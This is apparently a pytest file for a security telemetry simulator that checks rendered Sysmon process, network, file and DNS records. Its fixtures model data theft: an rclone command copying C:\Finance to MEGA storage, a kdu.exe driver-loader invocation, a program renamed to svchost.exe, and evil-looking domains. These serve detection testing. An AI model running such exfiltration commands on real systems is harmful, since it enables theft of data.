"""Sysmon 1, 3, 11 and 22: exact records of small worlds, and the traps of real ones."""

from __future__ import annotations

import re
from typing import Any

import polars as pl
import pytest

from simulator.errors import UsageError
from simulator.scenario.actions import ActionFrames
from simulator.telemetry import render
from simulator.telemetry.reverse_names import reverse_name
from tests.telemetry.worlds import (
    ADMIN,
    LINUX,
    LOCAL_SERVICE,
    NO_SYSMON,
    NOON,
    OLD_SYSMON,
    SYSTEM,
    actions,
    world,
)

GUID = r"\{[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\}"
GITHUB = {"name": "api.github.com", "address": "140.82.121.4"}
ZERO = "{00000000-0000-0000-0000-000000000000}"
PROCESS, NETWORK, FILE, DNS = (
    f"sysmon.{kind}" for kind in ("process_creation", "network_connection", "file_event", "dns_query")
)


def one(table: str, frames: ActionFrames, **parameters: bool | int | float | str) -> dict[str, Any]:
    """The only record of a table."""
    return render(frames, world(**parameters), [table])[table].row(0, named=True)


def test_process_creation_field_for_field() -> None:
    row = one(PROCESS, {"process_start": actions("process_start")}, parent_missing=0)
    forms = {
        "ProcessGuid": GUID,
        "ParentProcessGuid": GUID,
        "LogonGuid": GUID,
        "LogonId": r"0x[1-9a-f][0-9a-f]*",
        "ProcessId": r"[1-9]\d*",
        "ParentProcessId": r"[1-9]\d*",
        "Hashes": r"MD5=[0-9A-F]{32},SHA256=[0-9A-F]{64},IMPHASH=[0-9A-F]{32}",
    }
    for name, form in forms.items():
        assert re.fullmatch(form, row.pop(name)), name
    drawn = ("_event_id", "_time", "EventRecordID", "Execution_ProcessID", "Execution_ThreadID")
    assert {name: value for name, value in row.items() if name not in drawn} == {
        "_host": "WS-0001.meridian.example",
        "_user": "alice.frost",
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "Provider_Guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
        "EventID": 1,
        "Version": 5,
        "Level": 4,
        "Task": 1,
        "Opcode": 0,
        "Keywords": "0x8000000000000000",
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": "WS-0001.meridian.example",
        "Security_UserID": "S-1-5-18",
        "RuleName": "-",
        "UtcTime": "2026-03-02 12:00:34.567",
        "Image": r"C:\Tools\rclone.exe",
        "FileVersion": "1.61.1",
        "Description": "Rsync for cloud storage",
        "Product": "Rclone",
        "Company": "https://rclone.org",
        "OriginalFileName": "rclone.exe",
        "CommandLine": r'"C:\Tools\rclone.exe" copy C:\Finance mega:in',
        "CurrentDirectory": "C:\\Tools\\",
        "User": r"MERIDIAN\alice.frost",
        "TerminalSessionId": "1",
        "IntegrityLevel": "Medium",
        "ParentImage": r"C:\Windows\explorer.exe",
        "ParentCommandLine": r"C:\Windows\Explorer.EXE",
        "ParentUser": r"MERIDIAN\alice.frost",
        "_action_id": 500,
        "_instance_id": 99,
    }


def test_process_guid_holds_machine_and_second_of_the_start() -> None:
    """2026-03-02 12:00:34 UTC is 0x69a57be2; low word first, as in real GUIDs."""
    row = one(PROCESS, {"process_start": actions("process_start")})
    assert row["ProcessGuid"].startswith("{0a1b2c3d-7be2-69a5-")
    sequence = int.from_bytes(bytes.fromhex(row["ProcessGuid"][20:-1].replace("-", "")), "little")
    assert 2 <= sequence >> 48 <= 40, "the number of boots"
    assert 0 < sequence & 0xFFFFFFFFFFFF < 2**20, "the number of the process"


def test_logon_guid_ends_in_the_logon_id_little_endian() -> None:
    row = one(PROCESS, {"process_start": actions("process_start")})
    tail = bytes.fromhex(row["LogonGuid"][-18:-1].replace("-", ""))
    assert int.from_bytes(tail, "little") == int(row["LogonId"], 16)


@pytest.mark.parametrize(("user", "logon", "expected"), [(SYSTEM, 0x3E7, "0x3e7"), (LOCAL_SERVICE, 0x3E5, "0x3e5")])
def test_system_accounts_have_their_well_known_logon(user: int, logon: int, expected: str) -> None:
    row = one(PROCESS, {"process_start": actions("process_start", {"user": user, "logon": logon, "session": 0})})
    assert (row["LogonId"], row["TerminalSessionId"]) == (expected, "0")
    assert row["User"].startswith("NT AUTHORITY\\")


def test_sysmon_10_writes_nothing_and_question_marks() -> None:
    start = actions("process_start", {"host": OLD_SYSMON, "software": None, "version": None})
    row = one(PROCESS, {"process_start": start}, parent_missing=1)
    assert row["RuleName"] == row["ParentImage"] == row["ParentCommandLine"] == ""
    assert row["FileVersion"] == row["OriginalFileName"] == row["Company"] == "?"
    assert row["ParentUser"] is None
    assert re.fullmatch(r"\{0a1b2c3d-7be2-69a5-0000-0010[0-9a-f]{8}\}", row["ProcessGuid"])
    assert re.fullmatch(r"\{0a1b2c3d-[0-9a-f]{4}-[0-9a-f]{4}-0000-0020[0-9a-f]{8}\}", row["LogonGuid"])


def test_go_tools_without_version_information_show_dashes() -> None:
    row = one(PROCESS, {"process_start": actions("process_start", {"software": "restic", "version": "0.16.4"})})
    assert {row[n] for n in ("FileVersion", "Description", "Product", "Company", "OriginalFileName")} == {"-"}


def test_a_renamed_program_keeps_version_information_and_hashes() -> None:
    start = actions("process_start", {}, {"image": r"C:\Users\Public\svchost.exe"})
    table = render({"process_start": start}, world(), [PROCESS])[PROCESS]
    for name in ("Hashes", "OriginalFileName", "FileVersion"):
        assert table[name].n_unique() == 1, name


def test_hashes_follow_the_configured_order_and_the_file() -> None:
    start = actions("process_start", {"software": None}, {"software": None, "image": r"D:\RCLONE.exe"}, {})
    hashes = render({"process_start": start}, world(sysmon_hashes="SHA256,MD5"), [PROCESS])[PROCESS]["Hashes"]
    assert all(re.fullmatch(r"SHA256=[0-9A-F]{64},MD5=[0-9A-F]{32}", text) for text in hashes)
    assert hashes[0] == hashes[1], "an unknown file has the hashes of its name"
    assert hashes[0] != hashes[2]


def test_an_unknown_hash_in_the_configuration_is_an_error() -> None:
    with pytest.raises(UsageError, match="sysmon_hashes names 'CRC32', expected some of MD5, SHA1, SHA256, IMPHASH"):
        one(PROCESS, {"process_start": actions("process_start")}, sysmon_hashes="MD5,CRC32")


def test_a_missing_parent_keeps_its_process_id() -> None:
    start = {"process_start": actions("process_start")}
    with_parent, without = one(PROCESS, start, parent_missing=0), one(PROCESS, start, parent_missing=1)
    assert without["ParentProcessGuid"] == ZERO
    assert without["ParentImage"] == without["ParentCommandLine"] == without["ParentUser"] == "-"
    assert without["ParentProcessId"] == with_parent["ParentProcessId"] != "0"


def test_network_connection_field_for_field() -> None:
    row = one(NETWORK, {"connection": actions("connection")}, source_hostname_missing=0, port_name_missing=0)
    assert re.fullmatch(GUID, row["ProcessGuid"])
    fields = list(row)[list(row).index("User") :]
    assert [row[name] for name in fields] == [
        r"MERIDIAN\alice.frost",
        "tcp",
        "true",
        "false",
        "10.20.0.11",
        "WS-0001.meridian.example",
        "50123",
        "-",
        "false",
        "66.203.125.11",
        "-",
        "443",
        "https",
        500,
        99,
    ]


def test_only_one_record_for_a_udp_flow_and_one_for_each_tcp_connection() -> None:
    flow = {"protocol": "udp", "source_port": 40000}
    connections = actions("connection", flow, flow, {**flow, "source_port": 40001}, {}, {})
    table = render({"connection": connections}, world(), [NETWORK])[NETWORK]
    assert table["_action_id"].to_list() == [500, 502, 503, 504]


def test_ipv6_is_said_as_text() -> None:
    row = one(NETWORK, {"connection": actions("connection", {"address": "2606:4700::1"})})
    assert (row["DestinationIsIpv6"], row["SourceIsIpv6"]) == ("true", "true")
    assert row["SourceIp"].startswith("fd7a:"), "both ends of a connection speak the same protocol"


def test_hidden_names_are_a_dash_and_empty_on_sysmon_10() -> None:
    connections = actions("connection", {}, {"host": OLD_SYSMON})
    table = render({"connection": connections}, world(destination_hostname_missing=1), [NETWORK])[NETWORK]
    assert table["DestinationHostname"].to_list() == ["-", ""]


def test_shown_names_are_forward_names_reverse_names_or_the_worlds_own() -> None:
    rows = [GITHUB, {"address": "10.20.0.15", "name": None}, {"address": "192.168.77.1", "name": None}]
    frames = {"connection": actions("connection", *rows)}
    seen = {"destination_hostname_missing": 0, "destination_hostname_forward_share": 1}
    forward = render(frames, world(**seen), [NETWORK])[NETWORK]
    assert forward["DestinationHostname"].to_list() == ["api.github.com", "WS-0005.meridian.example", "-"]
    reverse = render(frames, world(**seen | {"destination_hostname_forward_share": 0}), [NETWORK])[NETWORK]
    assert reverse["DestinationHostname"][0] == "lb-140-82-121-4-fra.github.com"


@pytest.mark.parametrize(
    ("address", "name", "expected"),
    [
        ("142.250.185.78", "www.googleapis.com", r"fra\d+s50-in-f14\.1e100\.net"),
        ("52.219.170.1", "bucket.s3.eu-central-1.amazonaws.com", r"s3-r-w\.eu-central-1\.amazonaws\.com"),
        ("140.82.121.4", "api.github.com", r"lb-140-82-121-4-fra\.github\.com"),
        ("66.203.125.11", "notgithub.com.evil.example", r".*(akamai|cloudfront|amazonaws|msn).*"),
        ("66.203.125.11", "mynotgithub.com", r".*(akamai|cloudfront|amazonaws|msn).*"),
        ("2606:4700::1", "www.example.com", r"[^:]+"),
        ("149.154.167.220", "api.telegram.org", ""),
        ("45.155.204.237", None, r"(static\.237\.204\.155\.45\.clients\..*|vps\d+\.ip-45-155-204-237\.eu|)"),
    ],
)
def test_reverse_names_are_those_of_the_operator(address: str, name: str | None, expected: str) -> None:
    assert re.fullmatch(expected, reverse_name(address, name) or "")


@pytest.mark.parametrize("address", ["10.1.2.3", "192.168.0.1", "127.0.0.1", "fe80::1", "not an address"])
def test_private_addresses_have_no_reverse_name(address: str) -> None:
    assert reverse_name(address, "www.google.com") is None


def test_file_event_field_for_field() -> None:
    row = one(FILE, {"write": actions("write")})
    assert row["TargetFilename"] == r"C:\Tools\rclone.conf"
    assert row["CreationUtcTime"] == row["UtcTime"] == "2026-03-02 12:00:34.567"
    assert (row["EventID"], row["Version"], row["User"]) == (11, 2, r"MERIDIAN\alice.frost")


@pytest.mark.parametrize(("table", "kind"), [(FILE, "write"), (DNS, "lookup")])
def test_old_sysmon_names_no_user_in_11_and_22(table: str, kind: str) -> None:
    row = one(table, {kind: actions(kind, {"host": OLD_SYSMON})})
    assert row["User"] is None
    assert row["_user"] is None


@pytest.mark.parametrize(
    ("lookup", "status", "results"),
    [
        ({}, "0", "type:  5 lu.api.mega.co.nz;::ffff:66.203.125.11;"),
        ({"cnames": ["a.b", "c.d"], "addresses": ["1.2.3.4", "1.2.3.5"]}, "0", None),
        ({"cnames": [], "addresses": ["fe80::5", "1.2.3.4"]}, "0", "fe80::5;::ffff:1.2.3.4;"),
        ({"cnames": None, "addresses": None}, "0", "-"),
        ({"status": 9003}, "9003", "-"),
    ],
)
def test_dns_query_results(lookup: dict[str, Any], status: str, results: str | None) -> None:
    row = one(DNS, {"lookup": actions("lookup", lookup)}, sysmon_unknown_process_share=0)
    expected = results or "type:  5 a.b;type:  5 c.d;::ffff:1.2.3.4;::ffff:1.2.3.5;"
    assert (row["QueryStatus"], row["QueryResults"]) == (status, expected)
    assert row["Image"] == r"C:\Tools\rclone.exe"


def test_an_unknown_process_has_no_guid() -> None:
    row = one(DNS, {"lookup": actions("lookup")}, sysmon_unknown_process_share=1)
    assert (row["Image"], row["ProcessGuid"]) == ("<unknown process>", ZERO)


def test_programs_that_resolve_by_themselves_are_not_seen() -> None:
    frames = {"lookup": actions("lookup", {"system_resolver": False})}
    tables = render(frames, world(), [DNS, "dns_client.query"])
    assert [table.height for table in tables.values()] == [0, 0]


@pytest.mark.parametrize("host", [NO_SYSMON, LINUX])
@pytest.mark.parametrize(
    ("table", "kind"), [(PROCESS, "process_start"), (NETWORK, "connection"), (FILE, "write"), (DNS, "lookup")]
)
def test_hosts_without_sysmon_record_nothing(host: int, table: str, kind: str) -> None:
    assert render({kind: actions(kind, {"host": host})}, world(), [table])[table].is_empty()


@pytest.mark.parametrize(
    ("table", "kind", "least", "most"),
    [(PROCESS, "process_start", 5, 30), (FILE, "write", 5, 30), (NETWORK, "connection", 970, 3300)],
)
def test_time_created_is_later_than_utc_time(table: str, kind: str, least: int, most: int) -> None:
    made = render({kind: actions(kind, count=500)}, world(), [table])[table]
    happened = made["UtcTime"].str.to_datetime("%Y-%m-%d %H:%M:%S%.3f", time_unit="us", time_zone="UTC")
    delay = (made["_time"] - happened).dt.total_microseconds()
    assert least * 1000 <= delay.min() < delay.max() <= most * 1000
    assert delay.n_unique() > 300


def test_clocks_differ_by_host_and_not_within_a_host() -> None:
    starts = actions("process_start", *[{"host": host, "time": NOON + i} for i in range(50) for host in (0, 1, 4)])
    made = render({"process_start": starts}, world(clock_skew_milliseconds=5000), [PROCESS])[PROCESS]
    by_host = made.group_by("_host").agg(pl.col("UtcTime").n_unique())
    assert made["UtcTime"].n_unique() == 3
    assert by_host["UtcTime"].to_list() == [1, 1, 1]


@pytest.mark.parametrize(
    ("parent", "line", "image", "expected"),
    [
        ("cmd.exe", "curl -k https://x", "curl.exe", "curl  -k https://x"),
        ("CMD.EXE", '"C:\\a b\\kdu.exe" -prv 1', "kdu.exe", '"C:\\a b\\kdu.exe"  -prv 1'),
        ("cmd.exe", "curl  -k https://x", "curl.exe", "curl  -k https://x"),
        ("cmd.exe", "whoami", "whoami.exe", "whoami"),
        ("powershell.exe", "rclone copy a b", "rclone.exe", '"C:\\Tools\\rclone.exe" copy a b'),
        ("pwsh.exe", "whoami", "whoami.exe", '"C:\\Tools\\whoami.exe"'),
        ("powershell.exe", '"C:\\x\\rclone.exe" copy', "rclone.exe", '"C:\\x\\rclone.exe" copy'),
        ("powershell.exe", "powershell -c x", "powershell.exe", "powershell -c x"),
        ("explorer.exe", "curl -k", "curl.exe", "curl -k"),
    ],
)
def test_command_lines_have_the_shape_their_parent_gives(parent: str, line: str, image: str, expected: str) -> None:
    start = {"command_line": line, "parent_image": rf"C:\Windows\System32\{parent}", "image": rf"C:\Tools\{image}"}
    frames = {"process_start": actions("process_start", start, {})}
    tables = render(frames, world(), [PROCESS, "security.process_creation"])
    for table in tables.values():
        assert table["CommandLine"].to_list() == [expected, r'"C:\Tools\rclone.exe" copy C:\Finance mega:in']


def test_the_administrators_own_name_is_in_the_event() -> None:
    row = one(PROCESS, {"process_start": actions("process_start", {"user": ADMIN})})
    assert (row["User"], row["_user"]) == (r"MERIDIAN\bob.admin", "bob.admin")
